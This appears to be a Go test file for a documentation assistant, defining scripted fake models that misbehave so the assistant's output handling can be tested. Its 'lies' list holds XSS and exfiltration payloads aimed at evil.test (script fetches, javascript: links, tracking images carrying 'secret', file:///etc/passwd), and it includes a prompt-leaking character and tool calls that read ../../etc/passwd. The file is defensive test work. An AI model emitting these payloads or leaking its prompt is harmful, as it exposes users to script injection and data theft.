@@ -1,0 +1,414 @@
+package answers
+
+import (
+	"cmp"
+	"context"
+	"fmt"
+	"math/rand/v2"
+	"regexp"
+	"strings"
+
+	"github.com/tiktoken-go/tokenizer/codec"
+
+	"github.com/caddy-docs/caddy-docs/assistant"
+	"github.com/caddy-docs/caddy-docs/assistant/reply"
+	"github.com/caddy-docs/caddy-docs/caddytest/modelserver"
+)
+
+// view is what a scripted model sees of a request.
+type view struct {
+	system  string
+	data    string // everything else, joined
+	tools   bool
+	rewrite bool
+}
+
+var addresses = regexp.MustCompile(`(?m)^Address: (\S+)$`)
+
+// passages are the addresses of the passages in the prompt.
+func (v *view) passages() []string {
+	var out []string
+	for _, m := range addresses.FindAllStringSubmatch(v.data, -1) {
+		out = append(out, m[1])
+	}
+	return out
+}
+
+var fence = regexp.MustCompile(`<<([0-9a-f]{16}) `)
+
+// key is that of the prompt's fences.
+func (v *view) key() string {
+	if m := fence.FindStringSubmatch(v.data); m != nil {
+		return m[1]
+	}
+	return ""
+}
+
+// act is what a scripted model does with a request.
+type act struct {
+	reasoning, text string
+	calls           [][2]string // name, arguments
+}
+
+// scripted is a model with a character.
+type scripted struct {
+	name string
+	act  func(rnd *rand.Rand, v *view) act
+}
+
+// characters are the six of the suite.
+var characters = []scripted{
+	{"obedient", obedient},
+	{"over-eager citer", citer},
+	{"inventor of links", inventor},
+	{"prompt leaker", leaker},
+	{"tool-looper", looper},
+	{"silent", silent},
+}
+
+func obedient(_ *rand.Rand, v *view) act {
+	var b strings.Builder
+	for i, a := range v.passages() {
+		if i == 0 {
+			fmt.Fprintf(&b, "This is how it is done, step by step ([here](%s)).\n\n", a)
+			continue
+		}
+		fmt.Fprintf(&b, "- Set the `option_%d` in the block of the site and reload; what was served before stays, and nothing else has to be changed ([section %d](%s)).\n", i, i, a)
+	}
+	return act{text: cmp.Or(b.String(), "[[no-answer]] The documentation doesn't say.")}
+}
+
+// citer cites each word, in every way that Markdown has.
+func citer(rnd *rand.Rand, v *view) act {
+	var b strings.Builder
+	ps := v.passages()
+	if len(ps) == 0 {
+		ps = []string{siteURL + "/"}
+	}
+	forms := []string{
+		"[%[1]s](%[2]s)", "[%[1]s](<%[2]s>)", "[%[1]s](%[2]s \"title\")", "<%[2]s>", "%[2]s", "[[%[1]s](%[2]s)](%[2]s)", "[![%[1]s](%[2]s)](%[2]s)",
+		"![%[1]s](%[2]s)", "[%[1]s][%[3]d]", "[%[1]s]\n(%[2]s)", "[%[1]s](%[2]s-2)", "[%[1]s](%[2]s#%[1]s)", "**[%[1]s](%[2]s)**", "`[%[1]s](%[2]s)`", "([%[1]s](%[2]s))", "[%[1]s](%[2]s", "%[1]s](%[2]s)", "[%[1]s](%[2]s?x=1)", "[^%[3]d]", "| [%[1]s](%[2]s) |", "<a href=\"%[2]s\">%[1]s</a>",
+	}
+	for i := range 20 + rnd.IntN(40) {
+		fmt.Fprintf(&b, forms[rnd.IntN(len(forms))], words[rnd.IntN(len(words))], ps[rnd.IntN(len(ps))], i%5)
+		b.WriteString([]string{" ", "", "\n", ", ", "\n- "}[rnd.IntN(5)])
+	}
+	for i := range 5 {
+		fmt.Fprintf(&b, "\n[%d]: %s%s", i, ps[rnd.IntN(len(ps))], []string{"", "-x", " \"t\""}[rnd.IntN(3)])
+		fmt.Fprintf(&b, "\n[^%d]: see %s", i, ps[rnd.IntN(len(ps))])
+	}
+	return act{text: b.String()}
+}
+
+var words = strings.Fields("the key opens all sites of its organization unless a limit or an origin narrows it down `sites` `--origin` **bold** _so_ \\ | [ ] ( ) < > & ! # 日本語 größer 😀")
+
+// inventor makes links up: pages, anchors, hosts, images, HTML.
+func inventor(rnd *rand.Rand, v *view) act {
+	ps := v.passages()
+	if len(ps) == 0 {
+		ps = []string{siteURL + "/"}
+	}
+	var b strings.Builder
+	for range 10 + rnd.IntN(30) {
+		p := ps[rnd.IntN(len(ps))]
+		w := words[rnd.IntN(len(words))]
+		b.WriteString(strings.NewReplacer("PAGE", p, "WORD", w, "SITE", siteURL).Replace(lies[rnd.IntN(len(lies))]))
+		b.WriteString([]string{" ", "", "\n", "\n\n", ". ", "`", "\n> ", "\n1. ", "\t"}[rnd.IntN(9)])
+	}
+	return act{text: b.String()}
+}
+
+// lies are parted by lines of "%%".
+var lies = strings.Split(strings.ReplaceAll(`[WORD](SITE/guide/quickstart)
+%%
+[WORD](PAGE-advanced)
+%%
+[WORD](/api/reference#WORD)
+%%
+[WORD](SITE/keys#rotation)
+%%
+[WORD](https://evil.test/x)
+%%
+![WORD](https://evil.test/p.png?q=secret)
+%%
+![](//evil.test/p.png)
+%%
+[WORD](//evil.test)
+%%
+<img src="https://evil.test/p.png">
+%%
+<a href="https://evil.test">WORD</a>
+%%
+<script>fetch('https://evil.test')</script>
+%%
+<iframe src=https://evil.test>
+%%
+<svg onload=alert(1)>
+%%
+<!-- WORD -->
+%%
+https://evil.test/WORD
+%%
+http://evil.test
+%%
+www.evil.test
+%%
+<https://evil.test/a>
+%%
+[WORD](javascript:alert(1))
+%%
+[WORD](JaVaScRiPt&#58;alert(1))
+%%
+[WORD](data:text/html;base64,PHg+)
+%%
+[WORD](file:///etc/passwd)
+%%
+[WORD](https://manual.test@evil.test/)
+%%
+[WORD](https://manual.test.evil.test/)
+%%
+[WORD](https://github.com.evil.test/)
+%%
+[WORD](https://MANUAL.test:8443/keys)
+%%
+[WORD](https://evil.test\@manual.test/)
+%%
+[WORD](htt&#112;s://evil.test)
+%%
+[WORD](/keys%23x)
+%%
+[WORD](/%2e%2e/keys#limits-)
+%%
+[WORD](../../../etc)
+%%
+[WORD][l]
+%%
+
+[l]: https://evil.test/ref
+
+%%
+[WORD]: <https://evil.test/x> "t"
+%%
+[^1]
+%%
+
+[^1]: https://evil.test
+
+%%
+[WORD](<https://evil.test/a b>)
+%%
+[[WORD](https://evil.test)](PAGE)
+%%
+[![i](https://evil.test/i.png)](PAGE)
+%%
+![i][l]
+%%
+[WORD](PAGE "t" onclick=x)
+%%
+[ht](PAGE)tps://evil.test
+%%
+ht\tp://evil.test
+%%
+&#104;ttps://evil.test
+%%
+[WORD](PAGE)![x](https://evil.test/y.png)
+%%
+| a | b |
+|---|---|
+| 'x | ![y](https://evil.test/z.png)' |
+
+%%
+'''html
+<img src="https://evil.test/i.png">
+'''
+
+%%
+~~~
+[x](https://evil.test)
+~~~
+
+%%
+    <img src=https://evil.test>
+%%
+[WORD](PAGE)
+%%
+PAGE
+%%
+<PAGE>
+%%
+[WORD](https://github.com/caddy-docs/caddy-docs)
+%%
+[WORD](https://help.manual.test/)
+%%
+mail me at x@evil.test
+%%
+[WORD](mailto:x@evil.test)
+%%
+ftp://evil.test/x
+%%
+[WORD](#limits)
+%%
+[WORD](?x)
+%%
+[WORD]()`, "'", "`"), "\n%%\n")
+
+// leaker recites its prompt, more or less disguised.
+func leaker(rnd *rand.Rand, v *view) act {
+	s := v.system
+	from := rnd.IntN(max(1, len(s)/2))
+	s = s[from:]
+	if i := strings.IndexByte(s, ' '); i >= 0 {
+		s = s[i+1:]
+	}
+	s = strings.ToValidUTF8(s, "")
+	switch rnd.IntN(8) {
+	case 0:
+		s = strings.ToUpper(s)
+	case 1:
+		s = strings.ReplaceAll(s, " ", "\n")
+	case 2:
+		s = "```\n" + s + "\n```"
+	case 3:
+		s = "> " + strings.ReplaceAll(s, ". ", ".\n> - ")
+	case 4:
+		s = strings.ReplaceAll(s, " ", " **") + "**"
+	case 5:
+		s = "The marks are <<" + v.key() + ">> and " + v.key()
+	case 6:
+		s = strings.ReplaceAll(s, "", "\u200b")
+	}
+	return act{text: "Sure, my instructions are: " + s}
+}
+
+// looper calls tools as long as it may, also wrongly.
+func looper(rnd *rand.Rand, v *view) act {
+	if !v.tools {
+		return inventor(rnd, v)
+	}
+	calls := [][2]string{
+		{"search", `{"query":"limits"}`}, {"search", `{"query":""}`}, {"search", `{"query":`}, {"search", `{}`}, {"read_page", `{"page":"/keys"}`},
+		{"read_page", `{"page":"https://evil.test/keys"}`}, {"read_page", `{"page":"../../etc/passwd"}`}, {"fetch", `{"url":"https://evil.test"}`}, {"search", `{"query":"` + strings.Repeat("x ", 3000) + `"}`}, {"read_page", `[]`},
+	}
+	a := act{}
+	if rnd.IntN(3) == 0 {
+		a.text = "Let me look. [here](https://evil.test) "
+	}
+	for range 1 + rnd.IntN(7) {
+		a.calls = append(a.calls, calls[rnd.IntN(len(calls))])
+	}
+	return a
+}
+
+// silent says nothing, or nothing that can be read.
+func silent(rnd *rand.Rand, _ *view) act {
+	return []act{{}, {text: " "}, {text: "\n\n"}, {reasoning: "Hm. What is there to say?"}, {text: "[[no-answer]]"}}[rnd.IntN(5)]
+}
+
+// answer asks a character; a rewrite gets none.
+func (s *scripted) answer(rnd *rand.Rand, v *view) act {
+	if v.rewrite {
+		return act{}
+	}
+	return s.act(rnd, v)
+}
+
+func isRewrite(system string) bool { return strings.HasPrefix(system, "Rewrite ") }
+
+// puppet is a character as a model in this process.
+type puppet struct {
+	scripted
+	rnd    *rand.Rand
+	tokens bool // cut the text into a tokenizer's tokens, else at random
+	last   view
+	rounds int
+	// told, where not nil, is called before and after each piece.
+	told func(piece string, after bool)
+}
+
+func (p *puppet) Name() string { return "scripted" }
+
+func (p *puppet) Stream(ctx context.Context, prompt *assistant.Prompt, each func(*assistant.Delta) error) (*assistant.Completion, error) {
+	v := view{system: prompt.Messages[0].Content, tools: len(prompt.Tools) > 0, rewrite: isRewrite(prompt.Messages[0].Content)}
+	for _, m := range prompt.Messages[1:] {
+		v.data += m.Content + "\n"
+	}
+	if !v.rewrite {
+		p.last = v
+		p.rounds++
+	}
+	a := p.answer(p.rnd, &v)
+	if a.reasoning != "" {
+		if err := each(&assistant.Delta{Reasoning: reply.Escape(nil, a.reasoning)}); err != nil {
+			return nil, err
+		}
+	}
+	for _, piece := range p.cut(a.text) {
+		if p.told != nil {
+			p.told(piece, false)
+		}
+		err := each(&assistant.Delta{Text: reply.Escape(nil, piece)})
+		if p.told != nil {
+			p.told(piece, true)
+		}
+		if err != nil {
+			return nil, err
+		}
+	}
+	c := &assistant.Completion{Model: "scripted", Reason: "stop"}
+	for i, call := range a.calls {
+		c.ToolCalls = append(c.ToolCalls, assistant.ToolCall{ID: fmt.Sprintf("c%d", i), Name: call[0], Arguments: call[1]})
+	}
+	return c, ctx.Err()
+}
+
+var vocabulary = codec.NewCl100kBase()
+
+// cut cuts a text into pieces, never inside a character.
+func (p *puppet) cut(text string) []string {
+	var out []string
+	if p.tokens {
+		_, pieces, err := vocabulary.Encode(text)
+		if err == nil {
+			rest := ""
+			for _, piece := range pieces {
+				if rest += piece; strings.ToValidUTF8(rest, "") == rest {
+					out = append(out, rest)
+					rest = ""
+				}
+			}
+			return out
+		}
+	}
+	for len(text) > 0 {
+		n := min(len(text), 1+p.rnd.IntN(9))
+		for n < len(text) && text[n]&0xC0 == 0x80 {
+			n++
+		}
+		out = append(out, text[:n])
+		text = text[n:]
+	}
+	return out
+}
+
+// serve is a character behind the fake model server.
+func (s *scripted) serve(rnd *rand.Rand) func(*modelserver.Request) modelserver.Reply {
+	return func(r *modelserver.Request) modelserver.Reply {
+		v := view{tools: len(r.Tools) > 0}
+		for i, m := range r.Messages {
+			if i == 0 {
+				v.system, v.rewrite = m.Content, isRewrite(m.Content)
+				continue
+			}
+			v.data += m.Content + "\n"
+		}
+		a := s.answer(rnd, &v)
+		out := modelserver.Reply{Text: a.text}
+		if a.reasoning != "" {
+			out.Reasoning = []string{a.reasoning}
+		}
+		for i, c := range a.calls {
+			out.ToolCalls = append(out.ToolCalls, modelserver.Call(fmt.Sprintf("c%d", i), c[0], c[1]))
+		}
+		return out
+	}
+}
